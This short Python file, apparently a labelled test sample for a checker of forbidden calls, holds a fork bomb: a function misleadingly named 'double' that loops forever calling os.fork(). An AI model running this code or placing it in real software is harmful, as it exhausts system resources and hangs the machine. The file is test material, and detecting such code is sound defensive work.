"""A fork bomb.

cause: forbidden call
"""

import os


def double(x):
    while True:
        os.fork()
